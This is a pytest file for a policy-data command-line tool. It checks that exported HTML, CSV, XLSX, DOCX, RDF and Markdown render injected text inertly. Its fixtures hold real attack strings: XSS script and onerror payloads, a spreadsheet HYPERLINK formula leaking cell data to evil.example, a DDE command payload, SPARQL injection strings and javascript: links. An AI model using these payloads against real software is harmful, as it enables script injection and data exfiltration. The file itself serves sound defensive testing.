"""Hostile text in the data never becomes markup, a formula, a query or a new Markdown block.

A copy of the tiny data set gets titles, text, sections, quotes and document names such as
``</script><img src=x onerror=alert(1)>``, ``=HYPERLINK(...)``, ``" } UNION { ?s ?p ?o }`` and
Markdown links to ``javascript:``; every output is then checked against the same output built
from the untouched data: same structure, the hostile text present only as inert text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import networkx as nx
import pytest
import yaml
from click.testing import CliRunner
from rdflib import Dataset, Graph, Literal
from rdflib.namespace import DCTERMS

from cli import main
from graph.publish.exports import FORMULA_START

from .conftest import TINY

SCRIPT = '</script><img src=x onerror=alert(1)><script>alert(2)</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
SPARQL = '" } UNION { ?s ?p ?o } #'
MD = 'a | b *c* _d_ [x](javascript:alert(1)) ![i](http://evil.example/i.png) `e` <b>f</b> &lt;g&gt;'
MD_BLOCK = "Review\n# Heading\n- [y](javascript:alert(3))\n| x | y |\n<iframe src=x>"
LINK_TEXT = "[z](javascript:alert(4)) <a href=javascript:alert(5)>x</a>"
URL = "www.example.org/p?a=1&b='x'+onmouseover=alert(6)"
ALL = (SCRIPT, FORMULA, DDE, SPARQL, MD, MD_BLOCK)


def _edit(path: Path, fn) -> None:
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    fn(doc)
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _by_id(items: list[dict], rid: str) -> dict:
    return next(i for i in items if i["id"] == rid)


PLAIN = {SCRIPT: "Plain script", FORMULA: "Plain formula", DDE: "Plain dde", SPARQL: "Plain sparql",
         MD: "Plain md", MD_BLOCK: "Plain block", LINK_TEXT: "Plain link", URL: "www.example.org/p"}


def hostile_copy(dest: Path, plain: bool = False) -> Path:
    """tiny with hostile text in many fields; ``plain``: the same fields with harmless text, to
    compare outputs with (same records, same links, same number of lines and statements)."""
    shutil.copytree(TINY, dest)
    v = PLAIN.get if plain else (lambda s: s)

    def drivers(doc):
        doc["partnerships"][0]["title"] = v(DDE)
        _by_id(doc["drivers"], "act-a")["title"] = v(SCRIPT)
        _by_id(doc["drivers"], "strategy-b")["title"] = v(FORMULA)
        _by_id(doc["drivers"], "strategy-b")["links"][0]["quote"] = v(SPARQL) + " " + v(SCRIPT)
        _by_id(doc["drivers"], "board-c")["title"] = v(MD_BLOCK)
        entries = doc["editions"][0]["entries"]
        entries[0]["title"], entries[0]["summary"] = v(FORMULA), v(SCRIPT) + v(MD_BLOCK)
        entries[1]["title"] = v(MD)
        entries[1]["links_text"] = [v(LINK_TEXT), v(FORMULA)]
        # (a javascript: or markup-holding url is refused by the loader: tests/bad_input/field-url-*)
        _by_id(doc["drivers"], "strategy-b")["url"] = v(URL)

    def plan(doc):
        doc["source"]["title"] = v(SCRIPT)  # a document name: shown in every citation
        doc["plans"][0]["title"] = v(MD) + " " + v(SCRIPT)
        doc["themes"][0]["title"] = v(SPARQL)
        act = doc["actions"][0]
        act["title"], act["text"], act["section"] = v(FORMULA), v(SCRIPT) + " " + v(MD_BLOCK), v(MD)
        act["timescale"] = v(DDE)

    def frameworks(doc):
        # the shapes want "Article N (short title)"
        _by_id(doc["articles"], "uncrc-article-12")["title"] = f"Article 12 ({v(MD)})"
        _by_id(doc["articles"], "uncrc-article-3")["title"] = f"Article 3 ({v(SCRIPT)})"
        doc["wellbeing"][0]["title"] = v(DDE)  # a coverage column header

    _edit(dest / "drivers.yaml", drivers)
    _edit(dest / "plan.yaml", plan)
    _edit(dest / "frameworks.yaml", frameworks)
    return dest


@pytest.fixture(scope="module")
def dirs(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("inject")
    data = hostile_copy(root / "data")
    plain = hostile_copy(root / "plain", plain=True)
    out = {"data": data, "plain": plain, "exports": root / "exports", "benign": root / "benign"}
    for d, o in ((data, out["exports"]), (plain, out["benign"])):
        r = run(d, "build", "--out", str(o))
        assert r.exit_code == 0, r.output
    return out


def run(data: Path, *args: str, store: str = "rdflib"):
    return CliRunner().invoke(main, ["--data", str(data), "--store", store, *args])


def ok(data: Path, *args: str) -> str:
    r = run(data, *args)
    assert r.exit_code == 0, r.output
    assert "Traceback" not in r.output
    return r.output


# -- HTML ----------------------------------------------------------------------------------------

TAGS = ("<script", "</script", "<img", "<iframe", "<b>", "<style", "<a ", "<!--")


def test_html_has_exactly_the_markup_of_the_benign_page(dirs):
    hostile = (dirs["exports"] / "graph.html").read_text(encoding="utf-8")
    benign = (dirs["benign"] / "graph.html").read_text(encoding="utf-8")
    for tag in TAGS:
        assert hostile.lower().count(tag) == benign.lower().count(tag), tag
    for text in (SCRIPT, FORMULA, MD, MD_BLOCK):
        assert text not in hostile  # not verbatim: every '<', '>' and '&' is escaped in the JSON


def test_html_data_block_round_trips_the_hostile_text(dirs):
    html = (dirs["exports"] / "graph.html").read_text(encoding="utf-8")
    blocks = re.findall(r'<script id="graph-data" type="application/json">(.*?)</script>', html, re.S)
    assert len(blocks) == 1
    strings = set(_strings(json.loads(blocks[0])))
    assert SCRIPT in strings and FORMULA in strings and MD_BLOCK in strings
    assert any(SCRIPT in s and MD_BLOCK in s for s in strings)  # the action text, whole


def test_viz_page_for_one_node_is_escaped_too(dirs, tmp_path: Path):
    page = tmp_path / "focus.html"
    ok(dirs["data"], "viz", "--focus", "action-1", "--out", str(page))
    html = page.read_text(encoding="utf-8")
    benign = (dirs["benign"] / "graph.html").read_text(encoding="utf-8")
    for tag in TAGS:
        assert html.lower().count(tag) == benign.lower().count(tag), tag


def _strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from _strings(v)


# -- CSV -----------------------------------------------------------------------------------------

def assert_inert_csv(text: str, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, where
    for row in rows:
        assert len(row) == len(rows[0]), f"{where}: a row has the wrong number of cells: {row}"
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"{where}: formula cell {cell!r}"
    return rows


def test_export_csvs_guard_formulas_and_keep_their_shape(dirs):
    seen = set()
    for f in sorted(dirs["exports"].glob("*.csv")):
        rows = assert_inert_csv(f.read_text(encoding="utf-8"), f.name)
        seen.update(c for r in rows for c in r)
    assert "'" + FORMULA in seen and "'" + DDE in seen  # guarded, and otherwise unchanged
    assert SCRIPT in seen


@pytest.mark.parametrize("args", [
    ("list", "drivers", "--format", "csv"),
    ("list", "actions", "--format", "csv"),
    ("list", "partnerships", "--format", "csv"),
    ("list", "drivers", "--edition", "2023", "--format", "csv"),
    ("coverage", "--format", "csv"),
    ("coverage", "--framework", "shanarri", "--format", "csv"),
    ("query", "actions-by-lead", "--param", "lead=", "--format", "csv"),
])
def test_command_csv_is_inert(dirs, args):
    assert_inert_csv(ok(dirs["data"], *args), " ".join(args))


def test_list_json_round_trips_hostile_text_exactly(dirs):
    rows = json.loads(ok(dirs["data"], "list", "actions", "--format", "json"))
    (act,) = rows
    assert act["title"] == FORMULA and act["text"] == SCRIPT + " " + MD_BLOCK and act["section"] == MD


# -- RDF, JSON-LD, GraphML -------------------------------------------------------------------------

def test_rdf_exports_hold_the_text_as_literals_and_nothing_more(dirs):
    for name, fmt in (("graph.ttl", "turtle"), ("graph.trig", "trig"), ("graph.nq", "nquads")):
        hostile, benign = Dataset(), Dataset()
        hostile.parse(dirs["exports"] / name, format=fmt)
        benign.parse(dirs["benign"] / name, format=fmt)
        assert len(hostile) == len(benign), name  # no statement added or lost
        titles = {str(o) for o in hostile.objects(None, DCTERMS.title)} if fmt == "turtle" else \
            {str(q[2]) for q in hostile.quads((None, DCTERMS.title, None, None))}
        assert {SCRIPT, FORMULA, SPARQL, DDE, MD_BLOCK, f"Article 12 ({MD})"} <= titles, name


def test_jsonld_round_trips(dirs):
    strings = set(_strings(json.loads((dirs["exports"] / "graph.jsonld").read_text(encoding="utf-8"))))
    assert {SCRIPT, FORMULA, SPARQL, DDE, MD_BLOCK, f"Article 12 ({MD})"} <= strings
    g = Graph().parse(dirs["exports"] / "graph.jsonld", format="json-ld")
    assert (None, DCTERMS.title, Literal(SCRIPT)) in g


def test_graphml_round_trips(dirs):
    G = nx.read_graphml(dirs["exports"] / "graph.graphml")
    B = nx.read_graphml(dirs["benign"] / "graph.graphml")
    assert G.number_of_nodes() == B.number_of_nodes() and G.number_of_edges() == B.number_of_edges()
    assert G.nodes["act-a"]["title"] == SCRIPT and G.nodes["action-1"]["title"] == FORMULA


# -- Markdown --------------------------------------------------------------------------------------

ESCAPED = re.compile(r"\\[\\`*_{}\[\]<>()#+!|]")


def assert_inert_markdown(md: str, where: str) -> None:
    """Once the backslash escapes are removed, no character that starts a link, image, HTML tag,
    code span or emphasis remains except the tool's own ``**`` / ``*`` markers."""
    bare = ESCAPED.sub("", md)
    # the tool's own constructs: a "> " quote at the start of a line, an " [id]" at the end of one
    bare = re.sub(r"^> |^- \[ \] |\s\[[a-z0-9-]+\]$", "", bare, flags=re.M)
    for ch in "<>[]`_":
        assert ch not in bare, f"{where}: unescaped {ch!r} in {bare!r}"


def test_why_markdown_escapes_and_keeps_one_line_per_item(dirs):
    md = ok(dirs["data"], "why", "action-1", "--format", "md")
    assert_inert_markdown(md, "why")
    benign = ok(dirs["plain"], "why", "action-1", "--format", "md")
    assert len(md.splitlines()) == len(benign.splitlines())  # MD_BLOCK's line breaks did not add lines
    assert not any(line.startswith(("#", "|", "<")) and not line.startswith("## ") for line in md.splitlines())
    assert "javascript" in md  # the text is kept, as text


def test_impact_markdown_escapes(dirs):
    md = ok(dirs["data"], "impact", "act-a", "--format", "md")
    assert_inert_markdown(md, "impact")
    assert len(md.splitlines()) == len(ok(dirs["plain"], "impact", "act-a", "--format", "md").splitlines())


@pytest.mark.parametrize("args", [(), ("--framework", "shanarri"), ("--plan", "plan-p")])
def test_coverage_markdown_table_keeps_its_columns(dirs, args):
    md = ok(dirs["data"], "coverage", *args, "--format", "md")
    assert_inert_markdown(md, "coverage")
    table = [ln for ln in md.splitlines() if ln.startswith("|")]
    cells = {len(re.split(r"(?<!\\)\|", ln)) for ln in table}
    assert len(cells) == 1, table  # every row has as many unescaped | as the header
    benign = ok(dirs["plain"], "coverage", *args, "--format", "md")
    assert len(md.splitlines()) == len(benign.splitlines())


# -- SPARQL ----------------------------------------------------------------------------------------

INJECTIONS = [SPARQL, '"} ; DROP ALL ; #', "x' || true || '", '"""', "\\", "<http://evil.example/>", "action-1\" ."]


@pytest.mark.parametrize("store", ["rdflib", "oxigraph"])  # oxigraph: values substituted as escaped RDF terms
@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("name, param", [("what-drives", "action"), ("driven-by", "driver"),
                                         ("partnership-drivers", "partnership")])
def test_query_params_are_bound_not_pasted(dirs, name, param, value, store):
    r = run(dirs["data"], "query", name, "--param", f"{param}={value}", "--format", "json", store=store)
    # an id parameter names no record: refused before the query runs (the check binds it too), never every triple
    assert r.exit_code == 2, r.output
    assert "is not the id of any" in r.output and "Traceback" not in r.output


@pytest.mark.parametrize("store", ["rdflib", "oxigraph"])
def test_query_lead_substring_is_a_literal_not_a_pattern(dirs, store):
    r = run(dirs["data"], "query", "actions-by-lead", "--param", f"lead={SPARQL}", "--format", "json", store=store)
    assert r.exit_code in (0, 1) and "Traceback" not in r.output
    if r.exit_code == 0:
        assert json.loads(r.output) == []


def test_hostile_integer_param_is_refused(dirs):
    r = run(dirs["data"], "query", "expiring", "--param", "before=2025 } UNION { ?s ?p ?o }")
    assert r.exit_code == 2 and "before" in r.output and "Traceback" not in r.output


@pytest.mark.parametrize("store", ["rdflib", "oxigraph"])
def test_the_hostile_theme_title_is_matched_as_text(dirs, store):
    """The bound value really reaches the data: the theme titled with SPARQL text is found by it."""
    r = run(dirs["data"], "query", "what-drives", "--param", "action=action-1", "--format", "json", store=store)
    assert r.exit_code == 0, r.output
    rows = json.loads(r.output)
    assert SPARQL in {r["title"] for r in rows}


# -- terminal text -------------------------------------------------------------------------------

@pytest.mark.parametrize("args", [("show", "action-1"), ("why", "action-1"), ("list", "actions")])
def test_plain_text_output_has_no_control_characters(dirs, args):
    out = ok(dirs["data"], *args)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", out.replace("\n", ""))


# -- edition documents and spreadsheets (issue 5's commands) -------------------------------------

def test_document_markdown_escapes(dirs, tmp_path: Path):
    out = tmp_path / "d.md"
    ok(dirs["data"], "document", "--edition", "2023", "--format", "md", "--out", str(out))
    md = out.read_text(encoding="utf-8")
    bare = re.sub(r"</?u>", "", ESCAPED.sub("", md))  # <u> is the document's own underline
    for ch in "<>[]`":
        assert ch not in bare, f"unescaped {ch!r}"
    benign = tmp_path / "b.md"
    ok(dirs["plain"], "document", "--edition", "2023", "--format", "md", "--out", str(benign))
    heads = [ln for ln in md.splitlines() if ln.startswith("#")]
    assert len(heads) == len([ln for ln in benign.read_text(encoding="utf-8").splitlines() if ln.startswith("#")])


def test_document_html_escapes_and_links_only_to_the_web(dirs, tmp_path: Path):
    out, benign = tmp_path / "d.html", tmp_path / "b.html"
    ok(dirs["data"], "document", "--edition", "2023", "--format", "html", "--out", str(out))
    ok(dirs["plain"], "document", "--edition", "2023", "--format", "html", "--out", str(benign))
    html, base = out.read_text(encoding="utf-8"), benign.read_text(encoding="utf-8")
    for tag in ("<script", "<img", "<iframe", "<b>", "<style"):
        assert html.lower().count(tag) == base.lower().count(tag), tag
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs and all(h.startswith(("#", "https://", "http://")) for h in hrefs), hrefs
    assert html.count("<a ") == base.count("<a ")  # the links_text gave no link


def test_document_docx_holds_the_text_as_text(dirs, tmp_path: Path):
    import zipfile

    from docx import Document

    out = tmp_path / "d.docx"
    ok(dirs["data"], "document", "--edition", "2023", "--format", "docx", "--out", str(out))
    text = "\n".join(p.text for p in Document(str(out)).paragraphs)
    assert FORMULA in text and "</script>" in text
    with zipfile.ZipFile(out) as z:
        xml = z.read("word/document.xml").decode("utf-8")
        rels = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".rels"))
    assert "<script" not in xml and "javascript:" not in rels  # escaped text, no live link
    assert "&lt;/script&gt;" in xml


def test_export_csv_and_xlsx_are_inert(dirs, tmp_path: Path):
    from openpyxl import load_workbook

    csv_out, xlsx_out = tmp_path / "e.csv", tmp_path / "e.xlsx"
    ok(dirs["data"], "export", "--edition", "2023", "--format", "csv", "--out", str(csv_out))
    ok(dirs["data"], "export", "--edition", "2023", "--format", "xlsx", "--out", str(xlsx_out))
    assert_inert_csv(csv_out.read_text(encoding="utf-8-sig"), "export csv")
    wb = load_workbook(xlsx_out)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula cell {c.coordinate}: {c.value!r}"
                values.append(c.value)
    assert any(isinstance(v, str) and FORMULA in v for v in values)  # kept, as text


def test_review_markdown_escapes(dirs):
    r = run(dirs["data"], "review", "--edition", "2023", "--format", "md")
    assert r.exit_code in (0, 1) and "Traceback" not in r.output, r.output
    assert_inert_markdown(r.output, "review")


def test_diff_and_refresh_markdown_escape(dirs, tmp_path: Path):
    """A new edition (refresh) whose titles and summaries an officer pasted hostile text into."""
    data = tmp_path / "data"
    shutil.copytree(dirs["data"], data)
    ok(data, "refresh", "--from", "2023", "--to", "2024", "--checklist", str(tmp_path / "check.md"))
    assert_inert_markdown((tmp_path / "check.md").read_text(encoding="utf-8"), "refresh checklist")
    (new,) = (data / "editions").glob("*2024*.yaml")

    def edit(doc):
        entries = doc["editions"][0]["entries"]
        entries[0]["title"] = MD_BLOCK + SCRIPT
        entries[1]["summary"] = LINK_TEXT + "\n| a | b |"
        entries[2]["title"] = "[renamed](javascript:alert(7)) " + FORMULA

    _edit(new, edit)
    md = ok(data, "diff", "2023", "2024", "--format", "md")
    assert "javascript" in md  # the changes are listed ...
    assert_inert_markdown(md, "diff")  # ... as text
    table = [ln for ln in md.splitlines() if ln.startswith("|")]
    assert len({len(re.split(r"(?<!\\)\|", ln)) for ln in table}) <= 1, table


# -- suggestions (issue 8): hostile titles in candidates, saved suggestions, dashed edges ---------

def test_suggest_outputs_are_inert(dirs, tmp_path: Path):
    """A hostile driver title reaches suggest's table and JSON as text, and saved suggestions go
    through why --suggested (Markdown) and viz --suggested (HTML, dashed edges) escaped."""
    words = "script img onerror alert"  # the hostile title's own words, so it is a candidate
    rows = json.loads(ok(dirs["data"], "suggest", words, "--types", "Driver", "--format", "json"))["suggestions"]
    assert SCRIPT in {r["title"] for r in rows}
    table = ok(dirs["data"], "suggest", words, "--types", "Driver")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", table.replace("\n", ""))
    pages = {}
    for key in ("data", "plain"):
        saved = tmp_path / f"{key}-suggestions.json"
        ok(dirs[key], "suggest", "action-1", "--save", "--all", "--suggestions", str(saved))
        md = ok(dirs[key], "why", "action-1", "--suggested", "--suggestions", str(saved), "--format", "md")
        assert "inferred" in md.lower()
        if key == "data":
            assert_inert_markdown(md, "why --suggested")
        page = tmp_path / f"{key}.html"
        ok(dirs[key], "viz", "--suggested", "--suggestions", str(saved), "--out", str(page))
        pages[key] = page.read_text(encoding="utf-8").lower()
    for tag in TAGS:
        assert pages["data"].count(tag) == pages["plain"].count(tag), tag
    assert SCRIPT.lower() not in pages["data"]
